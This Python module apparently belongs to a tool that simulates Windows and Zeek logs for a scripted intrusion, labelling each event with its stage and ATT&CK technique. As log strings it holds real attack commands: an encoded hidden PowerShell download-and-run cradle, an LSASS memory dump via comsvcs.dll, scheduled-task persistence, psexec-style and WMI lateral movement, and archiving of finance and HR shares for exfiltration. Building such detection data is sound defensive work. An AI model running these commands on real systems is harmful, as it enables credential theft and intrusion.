"""The intruder: one story, told event by event, each labelled with its stage and ATT&CK technique."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import numpy as np

from vizsla.simulate.assumptions import assumptions
from vizsla.simulate.faces import process_guid
from vizsla.simulate.frame import POWERSHELL, SECURITY, SYSMON, SYSTEM_LOG, TASKS, Parts, utc_time
from vizsla.simulate.network import uids, zeek_time
from vizsla.simulate.people import DAY, HOUR, SECOND, Host, Plan, generator
from vizsla.simulate.tokens import strings

if TYPE_CHECKING:
    from vizsla.simulate.company import Company

MINUTE = 60 * SECOND
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
TASK = "\\Microsoft\\Windows\\OneDrive\\SyncHealth"
DISCOVERY = (
    ("whoami.exe", "whoami  /all", "T1033"), ("net.exe", 'net  group "Domain Admins" /domain', "T1069.002"),
    ("nltest.exe", "nltest  /domain_trusts /all_trusts", "T1482"), ("systeminfo.exe", "systeminfo", "T1082"),
    ("ipconfig.exe", "ipconfig  /all", "T1016"), ("net.exe", "net  view /all /domain", "T1018"),
    ("tasklist.exe", "tasklist  /v", "T1057"), ("net.exe", "net  localgroup administrators", "T1069.001"),
)  # fmt: skip
FULL_LIST = "%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t%%4418\r\n\t\t\t\t"


def encoded(script: str) -> str:
    """A script as `powershell -EncodedCommand` takes it."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


@dataclass(frozen=True, slots=True)
class Actor:
    """A process of the story, or one of the machine's own that it hangs on."""

    host: Host
    time: int
    image: str
    command: str
    guid: str
    pid: int
    user: str
    sid: str
    logon: int
    level: str


@dataclass(slots=True)
class Event:
    """One event of the story."""

    host: int
    table: str
    kind: str
    time: int
    columns: dict[str, str]
    stage: str
    technique: str


@dataclass(slots=True)
class Story:
    """Writes events; a process brings Sysmon 1 and 5 and Security 4688 and 4689, a connection all that see it."""

    company: Company
    rng: np.random.Generator
    events: list[Event] = field(default_factory=list)
    count: int = 0

    def tell(
        self, host: Host, table: str, kind: int | str, time: int, columns: Mapping[str, str], stage: str, technique: str
    ) -> None:
        self.events.append(Event(host.number, table, str(kind), time, dict(columns), stage, technique))

    def resident(self, host: Host, day: int, name: str) -> Actor:
        """A standing process of the machine, such as explorer.exe."""
        programs, table = self.company.programs, self.company.processes.resident_set(host, day)
        rows = np.flatnonzero(table.program == programs.index[name])
        row = int(rows[0]) if len(rows) else 0
        spec = assumptions()["programs"][name if len(rows) else "smss"]
        account, user = int(table.account[row]), f"LARKFIELD\\{host.user}"
        system = account != 0
        guid = process_guid(host.machine, table.time[row : row + 1], table.sequence[row : row + 1])[0].as_py()
        return Actor(
            host, int(table.time[row]), spec["img"], spec["cmd"][0], guid, int(table.pid[row]),
            "NT AUTHORITY\\SYSTEM" if system else user, "S-1-5-18" if system else host.sid, int(table.logon[row]),
            "System" if system else "Medium",
        )  # fmt: skip

    def process(
        self, parent: Actor, time: int, image: str, command: str, stage: str, technique: str, *, life: float = 2.0,
        as_admin: tuple[str, str, int] | None = None,
    ) -> Actor:  # fmt: skip
        """Start a process; it ends after `life` seconds (0: goes on). `as_admin`: another user, SID, logon id."""
        host, self.count = parent.host, self.count + 1
        user, sid, logon = as_admin or (parent.user, parent.sid, parent.logon)
        guid = process_guid(host.machine, np.array([time]), np.array([0xE000 + self.count]))[0].as_py()
        level = "High" if as_admin else parent.level
        actor = Actor(host, time, image, command, guid, int(self.rng.integers(350, 7800)) * 4, user, sid, logon, level)
        name = image.rsplit("\\", 1)[-1]
        known = "\\Windows\\" in image or "\\Program Files" in image
        digest = self.rng.bytes(52).hex().upper()
        self.tell(host, SYSMON, 1, time, {
            **self._me(actor, time), "FileVersion": "10.0.19041.4170" if known else "-", "Description": name.rsplit(".", 1)[0] if known else "-",
            "Product": "Microsoft® Windows® Operating System" if known else "-", "Company": "Microsoft Corporation" if known else "-",
            "OriginalFileName": name if known else "-", "CommandLine": command, "CurrentDirectory": "C:\\Windows\\system32\\",
            "LogonGuid": f"{host.machine}-7B20-65E4-0020-{logon & 0xFFFF:04X}{(logon >> 16) & 0xFFFF:04X}0000",
            "LogonId": hex(logon), "TerminalSessionId": "0" if level == "System" else "1", "IntegrityLevel": level,
            "Hashes": f"SHA1={digest[:40]},MD5={digest[40:72]},SHA256={digest[:64]},IMPHASH={digest[72:104]}",
            "ParentProcessGuid": parent.guid, "ParentProcessId": str(parent.pid), "ParentImage": parent.image,
            "ParentCommandLine": parent.command, "ParentUser": parent.user,
        }, stage, technique)  # fmt: skip
        subject = self._subject(actor)
        label = {"System": "S-1-16-16384", "High": "S-1-16-12288"}.get(level, "S-1-16-8192")
        self.tell(host, SECURITY, 4688, time - 400, subject | {
            "NewProcessId": hex(actor.pid), "NewProcessName": image, "TokenElevationType": "%%1936", "ProcessId": hex(parent.pid),
            "CommandLine": command, "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
            "ParentProcessName": parent.image, "MandatoryLabel": label,
        }, stage, technique)  # fmt: skip
        if life:
            end = time + int(life * SECOND)
            self.tell(host, SYSMON, 5, end, self._me(actor, end), stage, technique)
            self.tell(
                host,
                SECURITY,
                4689,
                end + 300,
                subject | {"Status": "0x0", "ProcessId": hex(actor.pid), "ProcessName": image},
                stage,
                technique,
            )
        return actor

    @staticmethod
    def _me(actor: Actor, time: int) -> dict[str, str]:
        return {"RuleName": "-", "UtcTime": utc_time(np.array([time]))[0].as_py(), "ProcessGuid": actor.guid,
                "ProcessId": str(actor.pid), "Image": actor.image, "User": actor.user}  # fmt: skip

    @staticmethod
    def _subject(actor: Actor) -> dict[str, str]:
        domain, _, name = actor.user.rpartition("\\")
        if actor.sid == "S-1-5-18":
            domain, name = "LARKFIELD", f"{actor.host.name}$"
        return {
            "SubjectUserSid": actor.sid,
            "SubjectUserName": name,
            "SubjectDomainName": domain,
            "SubjectLogonId": hex(actor.logon),
        }

    def act(self, actor: Actor, kind: int, time: int, columns: Mapping[str, str], stage: str, technique: str) -> None:
        """A further Sysmon event of a process."""
        self.tell(actor.host, SYSMON, kind, time, self._me(actor, time) | dict(columns), stage, technique)

    def connect(
        self, actor: Actor, time: int, address: str, port: int, stage: str, technique: str, *, name: str = "", sent: int = 1800,
        received: int = 900, seconds: float = 1.2,
    ) -> None:  # fmt: skip
        """A connection: Sysmon 3 and Zeek conn, and with a `name` ssl and now and then a lookup (22, dns)."""
        host, rng = actor.host, self.rng
        source, uid = str(int(rng.integers(49152, 65535))), uids(1, rng)[0].as_py()
        service = {445: "smb", 135: "dce_rpc", 443: "ssl"}.get(port, "ssl")
        self.act(actor, 3, time, {
            "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": host.address, "SourceHostname": host.fqdn,
            "SourcePort": source, "SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": address,
            "DestinationHostname": "-", "DestinationPort": str(port), "DestinationPortName": {443: "https", 445: "microsoft-ds", 135: "epmap"}[port],
        }, stage, technique)  # fmt: skip
        ends = {
            "uid": uid,
            "id.orig_h": host.address,
            "id.orig_p": source,
            "id.resp_h": address,
            "id.resp_p": str(port),
        }
        packets = [max(n // 1200, 1) + 6 for n in (sent, received)]
        self.tell(host, "zeek_conn", "", time, ends | {
            "proto": "tcp", "service": service, "duration": zeek_time(np.array([int(seconds * SECOND)]))[0].as_py(), "orig_bytes": str(sent),
            "resp_bytes": str(received), "conn_state": "SF", "local_orig": "T", "local_resp": "F" if name else "T", "missed_bytes": "0",
            "history": "ShADadFf", "orig_pkts": str(packets[0]), "orig_ip_bytes": str(sent + 40 * packets[0]),
            "resp_pkts": str(packets[1]), "resp_ip_bytes": str(received + 40 * packets[1]),
        }, stage, technique)  # fmt: skip
        if not name:
            return
        self.tell(host, "zeek_ssl", "", time + 30_000, ends | {
            "version": "TLSv12", "cipher": "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384", "curve": "x25519", "server_name": name, "resumed": "F",
            "established": "T", "ssl_history": "CsxkutnGVI", "ja3": "a0e9f5d64349fb13191bc781f81f42e1", "ja3s": "ec74a5c51106f0419184d0dd08fb05bc",
        }, stage, technique)  # fmt: skip
        if rng.random() < 0.4:
            self._lookup(actor, time - 60_000, name, address, stage)

    def _lookup(self, actor: Actor, time: int, name: str, address: str, stage: str) -> None:
        self.act(
            actor,
            22,
            time,
            {"QueryName": name, "QueryStatus": "0", "QueryResults": f"::ffff:{address};"},
            stage,
            "T1071.001",
        )
        dc = self.company.hosts[self.company.network.dc].address
        rng = self.rng
        ends = {"uid": uids(1, rng)[0].as_py(), "id.orig_h": actor.host.address, "id.orig_p": str(int(rng.integers(49152, 65535))),
                "id.resp_h": dc, "id.resp_p": "53"}  # fmt: skip
        self.tell(actor.host, "zeek_dns", "", time, ends | {
            "proto": "udp", "trans_id": str(int(rng.integers(1, 65535))), "rtt": "0.031220", "query": name, "qclass": "1",
            "qclass_name": "C_INTERNET", "qtype": "1", "qtype_name": "A", "rcode": "0", "rcode_name": "NOERROR", "AA": "F", "TC": "F",
            "RD": "T", "RA": "T", "Z": "0", "answers": address, "TTLs": "60.000000", "rejected": "F",
        }, stage, "T1071.001")  # fmt: skip


class Intrusion:
    """The events of one intruder, told on first use; a pure function of the company."""

    def __init__(self, company: Company, days: tuple[int, int]) -> None:
        self.company, self.days = company, days
        self._events: dict[tuple[int, int], list[Event]] | None = None

    def parts(self, host: Host, plan: Plan) -> Parts:
        """The intruder's events on a host-day."""
        if self._events is None:
            self._events = self._tell()
        groups: dict[tuple[str, str, str, str], list[Event]] = {}
        for event in self._events.get((host.number, plan.day), []):
            groups.setdefault((event.table, event.kind, event.stage, event.technique), []).append(event)
        parts = Parts()
        for (table, kind, stage, technique), events in groups.items():
            names = dict.fromkeys(name for e in events for name in e.columns)
            columns = {n: strings([e.columns.get(n) for e in events]) for n in names}  # type: ignore[misc]
            time = np.array([e.time for e in events], np.int64)
            parts.add(table, kind, time, columns, stage=stage, technique=technique)
        return parts

    def _tell(self) -> dict[tuple[int, int], list[Event]]:
        company = self.company
        story = Story(company, generator(company.seed, 13))
        victim, days = self._victim()
        if days:
            _Plot(story, victim, days).play()
        found: dict[tuple[int, int], list[Event]] = {}
        for event in story.events:
            day = (event.time - company.calendar.midnight) // DAY
            plan = company.calendar.plan(company.hosts[event.host], day)
            # a machine that is off logs nothing, and a story told too late loses its end
            if 0 <= day < company.days and plan.on[0] <= event.time < plan.on[1]:
                found.setdefault((event.host, day), []).append(event)
        return found

    def _victim(self) -> tuple[Host, list[int]]:
        """An office worker who is there early in the period, and the days that the intruder has."""
        company, (first, last) = self.company, self.days
        begin = first + int((last - first + 1) * assumptions()["intrusion"]["start"])
        staff = (
            [h for h in company.hosts if h.role == "office"]
            or [h for h in company.hosts if not h.server]
            or list(company.hosts)
        )
        staff = [h for h in staff if h.joins < first] or staff
        for day in range(begin, last + 1):
            for host in staff:
                if company.calendar.plan(host, day).present:
                    days = [d for d in range(day, last + 1) if company.calendar.plan(host, d).present]
                    return host, days
        return staff[0], []


class _Plot:
    """What the intruder does, in order."""

    def __init__(self, story: Story, victim: Host, days: list[int]) -> None:
        self.story, self.victim, self.days = story, victim, days
        self.calendar, self.rng = story.company.calendar, story.rng
        settings = assumptions()["intrusion"]
        self.name, self.address, self.settings = settings["domain"], settings["address"], settings
        self.implant_path = f"C:\\Users\\{victim.user}\\AppData\\Local\\Microsoft\\OneDrive\\Update\\OneSyncHelper.exe"

    def play(self) -> None:
        first = self.days[0]
        plan = self.calendar.plan(self.victim, first)
        opened = plan.arrive + int(self.rng.integers(40, 90)) * MINUTE
        implant = self._phish(first, opened)
        self._discover(implant, opened + 14 * MINUTE)
        self._persist(implant, opened + 31 * MINUTE)
        self._steal(implant, opened + 47 * MINUTE)
        later = self.days[1] if len(self.days) > 1 else first
        implants = {first: implant}
        for day in self.days[1:]:
            implants[day] = self._again(day, implant)
        for day, actor in implants.items():
            self._beacon(day, actor, implant.time if day == first else actor.time)
        start = (
            self.calendar.plan(self.victim, later).arrive + 150 * MINUTE if later != first else opened + 120 * MINUTE
        )
        self._move(implants[later], start)

    def _phish(self, day: int, time: int) -> Actor:
        story, victim = self.story, self.victim
        folder = f"C:\\Users\\{victim.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3V9QZ1T"
        document = f"{folder}\\Overdue invoice 20418.docm"
        outlook = story.resident(victim, day, "explorer")
        story.act(
            outlook,
            11,
            time - 4 * SECOND,
            {"TargetFilename": document, "CreationUtcTime": utc_time(np.array([time]))[0].as_py()},
            "phishing",
            "T1566.001",
        )
        word = story.process(outlook, time, WORD, f'"{WORD}" /n "{document}" /o ""', "phishing", "T1204.002", life=1500)
        script = f"$w=New-Object Net.WebClient;$w.DownloadFile('https://{self.name}/u/20418','{self.implant_path}');Start-Process '{self.implant_path}'"
        command = f"powershell.exe -nop -w hidden -ep bypass -enc {encoded(script)}"
        shell = story.process(word, time + 9 * SECOND, PS, command, "execution", "T1059.001", life=22)
        story.process(shell, time + 9 * SECOND + 90_000, "C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                      "execution", "T1059.001", life=21)  # fmt: skip
        story.act(shell, 7, time + 10 * SECOND, {
            "ImageLoaded": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\System.Management.Automation.dll", "Signed": "true",
            "Signature": "Microsoft Windows", "SignatureStatus": "Valid",
        }, "execution", "T1059.001")  # fmt: skip
        story.tell(victim, POWERSHELL, 4104, time + 11 * SECOND, {
            "MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": script, "ScriptBlockId": "5f0c1f3e-8d1b-4f53-9a53-0b7f4c1d2e90",
            "Path": "", "UserID": victim.sid,
        }, "execution", "T1059.001")  # fmt: skip
        story.connect(
            shell,
            time + 12 * SECOND,
            self.address,
            443,
            "execution",
            "T1105",
            name=self.name,
            sent=1200,
            received=624_000,
            seconds=3.4,
        )
        story.act(
            shell,
            11,
            time + 16 * SECOND,
            {"TargetFilename": self.implant_path, "CreationUtcTime": utc_time(np.array([time]))[0].as_py()},
            "execution",
            "T1105",
        )
        return story.process(
            shell, time + 19 * SECOND, self.implant_path, f'"{self.implant_path}"', "execution", "T1204.002", life=0
        )

    def _discover(self, implant: Actor, time: int) -> None:
        for image, command, technique in DISCOVERY:
            shell = self.story.process(
                implant, time, CMD, f"C:\\Windows\\system32\\cmd.exe /C {command}", "discovery", technique, life=3
            )
            self.story.process(
                shell, time + 60_000, f"C:\\Windows\\System32\\{image}", command, "discovery", technique, life=1.5
            )
            time += int(self.rng.integers(20, 100)) * SECOND

    def _persist(self, implant: Actor, time: int) -> None:
        story, victim = self.story, self.victim
        command = f'schtasks  /create /tn "{TASK[1:]}" /tr "{self.implant_path}" /sc onlogon /f'
        story.process(implant, time, "C:\\Windows\\System32\\schtasks.exe", command, "persistence", "T1053.005", life=1)
        day = (time - self.calendar.midnight) // DAY
        scheduler = story.resident(victim, day, "svchost_sched")
        at = time + 300_000
        content = f'<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2">\r\n  <Actions><Exec><Command>{self.implant_path}</Command></Exec></Actions>\r\n</Task>'
        story.tell(
            victim,
            SECURITY,
            4698,
            at,
            story._subject(implant) | {"TaskName": TASK, "TaskContent": content},
            "persistence",
            "T1053.005",
        )
        story.tell(victim, TASKS, 106, at, {"TaskName": TASK, "UserContext": implant.user}, "persistence", "T1053.005")
        story.act(
            scheduler,
            11,
            at,
            {
                "TargetFilename": f"C:\\Windows\\System32\\Tasks{TASK}",
                "CreationUtcTime": utc_time(np.array([at]))[0].as_py(),
            },
            "persistence",
            "T1053.005",
        )
        story.act(scheduler, 13, at + 9000, {
            "EventType": "SetValue", "TargetObject": f"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree{TASK}\\Id",
            "Details": "{5C1D7B64-90BB-4C0F-8B0D-5E3E5A11C7A2}",
        }, "persistence", "T1053.005")  # fmt: skip

    def _steal(self, implant: Actor, time: int) -> None:
        story, victim = self.story, self.victim
        day = (time - self.calendar.midnight) // DAY
        lsass = story.resident(victim, day, "lsass")
        dump = "C:\\Windows\\Temp\\wer7F21.tmp"
        command = (
            f"C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full"
        )
        admin = (f"LARKFIELD\\{victim.admin}", victim.admin_sid, 0x5C21F4)
        story.tell(victim, SECURITY, 4648, time - 2 * SECOND, story._subject(implant) | {
            "LogonGuid": "00000000-0000-0000-0000-000000000000", "TargetUserName": victim.admin, "TargetDomainName": "LARKFIELD",
            "ProcessId": hex(implant.pid), "ProcessName": implant.image, "IpAddress": "-", "IpPort": "-",
        }, "credential access", "T1078.002")  # fmt: skip
        self._logon(victim, time - SECOND, admin, victim.address, "9", "credential access", "T1078.002")
        thief = story.process(
            implant,
            time,
            "C:\\Windows\\System32\\rundll32.exe",
            command,
            "credential access",
            "T1003.001",
            life=6,
            as_admin=admin,
        )
        story.tell(victim, SYSMON, 10, time + 400_000, {
            "RuleName": "-", "UtcTime": utc_time(np.array([time + 400_000]))[0].as_py(), "SourceProcessGUID": thief.guid,
            "SourceProcessId": str(thief.pid), "SourceThreadId": "6152", "SourceImage": thief.image, "TargetProcessGUID": lsass.guid,
            "TargetProcessId": str(lsass.pid), "TargetImage": lsass.image, "GrantedAccess": "0x1fffff",
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+21cd5|UNKNOWN(00000252B1A40FAE)",
            "SourceUser": thief.user, "TargetUser": lsass.user,
        }, "credential access", "T1003.001")  # fmt: skip
        story.act(thief, 7, time + 150_000, {"ImageLoaded": "C:\\Windows\\System32\\comsvcs.dll", "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid"},
                  "credential access", "T1003.001")  # fmt: skip
        story.act(
            thief,
            11,
            time + 900_000,
            {"TargetFilename": dump, "CreationUtcTime": utc_time(np.array([time]))[0].as_py()},
            "credential access",
            "T1003.001",
        )

    def _logon(
        self, host: Host, time: int, admin: tuple[str, str, int], address: str, kind: str, stage: str, technique: str
    ) -> None:
        domain, _, user = admin[0].rpartition("\\")
        story = self.story
        story.tell(host, SECURITY, 4624, time, {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0", "TargetUserSid": admin[1],
            "TargetUserName": user, "TargetDomainName": domain, "TargetLogonId": hex(admin[2]), "LogonType": kind,
            "LogonProcessName": "NtLmSsp " if kind == "3" else "seclogo", "AuthenticationPackageName": "NTLM" if kind == "3" else "Negotiate",
            "WorkstationName": self.victim.name, "LogonGuid": "00000000-0000-0000-0000-000000000000", "TransmittedServices": "-",
            "LmPackageName": "NTLM V2" if kind == "3" else "-", "KeyLength": "128" if kind == "3" else "0", "ProcessId": "0x0", "ProcessName": "-",
            "IpAddress": address, "IpPort": str(int(self.rng.integers(49152, 65535))), "ImpersonationLevel": "%%1833", "ElevatedToken": "%%1842",
        }, stage, technique)  # fmt: skip
        story.tell(host, SECURITY, 4672, time + 60, {
            "SubjectUserSid": admin[1], "SubjectUserName": user, "SubjectDomainName": domain, "SubjectLogonId": hex(admin[2]),
            "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeImpersonatePrivilege",
        }, stage, technique)  # fmt: skip

    def _again(self, day: int, implant: Actor) -> Actor:
        """The implant on a later day: the same process, or after a restart a new one by the task."""
        story, victim = self.story, self.victim
        if self.calendar.last_boot(victim, day) < (implant.time - self.calendar.midnight) // DAY:
            return implant
        boot = self.calendar.last_boot(victim, day)
        if boot != day:  # restarted on an earlier day than this one: the process of that day goes on
            return self._last if boot in self.days and hasattr(self, "_last") else implant
        if boot == self.days[0]:
            return implant
        begin = story.company.processes.session_logon(victim, day)[0] + 25 * SECOND
        scheduler = story.resident(victim, day, "svchost_sched")
        session = story.resident(victim, day, "explorer")
        self._last = story.process(scheduler, begin, self.implant_path, self.implant_path, "persistence", "T1053.005", life=0,
                                   as_admin=(session.user, session.sid, session.logon))  # fmt: skip
        story.tell(victim, TASKS, 200, begin - 900, {"TaskName": TASK, "ActionName": self.implant_path, "TaskInstanceId": "{E1B0A7C9-2F44-4E0B-9D3B-6B7A5A0C9F31}"},
                   "persistence", "T1053.005")  # fmt: skip
        return self._last

    def _beacon(self, day: int, actor: Actor, since: int) -> None:
        plan, beacon = self.calendar.plan(self.victim, day), self.settings["beacon"]
        time = max(since, plan.on[0]) + 30 * SECOND
        while time < plan.on[1]:
            sent, received = int(self.rng.normal(1400, 60)), int(self.rng.normal(620, 25))
            self.story.connect(actor, time, self.address, 443, "command and control", "T1071.001", name=self.name, sent=max(sent, 900),
                               received=max(received, 400), seconds=float(self.rng.uniform(0.3, 0.9)))  # fmt: skip
            time += int(beacon["seconds"] * SECOND * (1 + beacon["jitter"] * self.rng.uniform(-1, 1)))

    def _move(self, implant: Actor, time: int) -> None:
        hosts = self.story.company.hosts
        by_role = {h.role: h for h in reversed(hosts)}
        target = by_role.get("file") or next((h for h in hosts if h is not self.victim), self.victim)
        server = self._service(implant, target, time)
        if "db" in by_role:
            self._wmi(implant, by_role["db"], time + 12 * MINUTE)
        self._take(server, target, time + 25 * MINUTE)

    def _service(self, implant: Actor, target: Host, time: int) -> Actor:
        """A service on an admin share, as psexec-like tools of intruders make them."""
        story, victim, stage = self.story, self.victim, "lateral movement"
        day = (time - self.calendar.midnight) // DAY
        admin = (f"LARKFIELD\\{victim.admin}", victim.admin_sid, 0x6B90C1)
        system = story.resident(victim, day, "svchost_sys")
        story.connect(implant, time, target.address, 445, stage, "T1021.002", sent=690_000, received=21_000, seconds=9)
        self._logon(target, time + 300_000, admin, victim.address, "3", stage, "T1021.002")
        subject = {"SubjectUserSid": admin[1], "SubjectUserName": victim.admin, "SubjectDomainName": "LARKFIELD", "SubjectLogonId": hex(admin[2]),
                   "ObjectType": "File", "IpAddress": victim.address, "IpPort": "50122"}  # fmt: skip
        for i, (share, path, mask) in enumerate(
            (("ADMIN$", "kGqTbWzu.exe", "0x12019f"), ("IPC$", "svcctl", "0x12019f"))
        ):
            story.tell(target, SECURITY, 5140, time + (i + 1) * SECOND, subject | {"ShareName": f"\\\\*\\{share}", "ShareLocalPath": "\\??\\C:\\Windows" if i == 0 else "",
                       "AccessMask": "0x1", "AccessList": "%%4416\r\n\t\t\t\t"}, stage, "T1021.002")  # fmt: skip
            story.tell(target, SECURITY, 5145, time + (i + 1) * SECOND + 900, subject | {"ShareName": f"\\\\*\\{share}", "ShareLocalPath": "",
                       "RelativeTargetName": path, "AccessMask": mask, "AccessList": FULL_LIST, "AccessReason": "-"}, stage, "T1021.002")  # fmt: skip
        at = time + 4 * SECOND
        path = "%SystemRoot%\\kGqTbWzu.exe"
        story.tell(target, SYSTEM_LOG, 7045, at, {"ServiceName": "kGqT", "ImagePath": path, "ServiceType": "user mode service", "StartType": "demand start",
                                                  "AccountName": "LocalSystem", "UserID": admin[1]}, stage, "T1569.002")  # fmt: skip
        story.tell(target, SECURITY, 4697, at + 2000, {"SubjectUserSid": admin[1], "SubjectUserName": victim.admin, "SubjectDomainName": "LARKFIELD",
                   "SubjectLogonId": hex(admin[2]), "ServiceName": "kGqT", "ServiceFileName": path, "ServiceType": "0x10", "ServiceStartType": "3",
                   "ServiceAccount": "LocalSystem"}, stage, "T1543.003")  # fmt: skip
        services = story.resident(target, day, "services")
        story.act(
            services,
            13,
            at + 1000,
            {
                "EventType": "SetValue",
                "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\kGqT\\ImagePath",
                "Details": path,
            },
            stage,
            "T1543.003",
        )
        story.act(system if target is victim else story.resident(target, day, "svchost_sys"), 11, time + 2 * SECOND, {"TargetFilename": "C:\\Windows\\kGqTbWzu.exe",
                  "CreationUtcTime": utc_time(np.array([time]))[0].as_py()}, stage, "T1570")  # fmt: skip
        service = story.process(
            services, at + SECOND, "C:\\Windows\\kGqTbWzu.exe", "C:\\Windows\\kGqTbWzu.exe", stage, "T1569.002", life=0
        )
        story.process(
            service,
            at + 3 * SECOND,
            CMD,
            "C:\\Windows\\System32\\cmd.exe /c whoami & hostname & dir D:\\shares",
            stage,
            "T1021.002",
            life=4,
        )
        return service

    def _wmi(self, implant: Actor, target: Host, time: int) -> None:
        story, victim, stage = self.story, self.victim, "lateral movement"
        day = (time - self.calendar.midnight) // DAY
        admin = (f"LARKFIELD\\{victim.admin}", victim.admin_sid, 0x6D44A8)
        story.connect(implant, time, target.address, 135, stage, "T1047", sent=4200, received=2600, seconds=3)
        self._logon(target, time + 200_000, admin, victim.address, "3", stage, "T1047")
        broker = story.resident(target, day, "svchost_dcom")
        provider = story.process(broker, time + SECOND, "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                                 stage, "T1047", life=120)  # fmt: skip
        command = "cmd.exe /Q /c dir E:\\backup 1> \\\\127.0.0.1\\ADMIN$\\__1772612.63 2>&1"
        story.process(provider, time + 2 * SECOND, CMD, command, stage, "T1047", life=2, as_admin=admin)

    def _take(self, actor: Actor, host: Host, time: int) -> None:
        story, stage = self.story, "exfiltration"
        archive = "C:\\Windows\\Temp\\dd_vcredist.7z"
        command = f"C:\\Windows\\Temp\\7za.exe a -mx1 -pN0v1 {archive} D:\\shares\\finance D:\\shares\\hr"
        packer = story.process(actor, time, "C:\\Windows\\Temp\\7za.exe", command, "collection", "T1560.001", life=420)
        story.act(
            packer,
            11,
            time + 3 * SECOND,
            {"TargetFilename": archive, "CreationUtcTime": utc_time(np.array([time]))[0].as_py()},
            "collection",
            "T1074.001",
        )
        size = int(self.settings["exfiltration_mb"]) * 1_000_000
        story.connect(
            actor,
            time + 9 * MINUTE,
            self.address,
            443,
            stage,
            "T1041",
            name=self.name,
            sent=size,
            received=410_000,
            seconds=640.0,
        )


assert 24 * HOUR == DAY
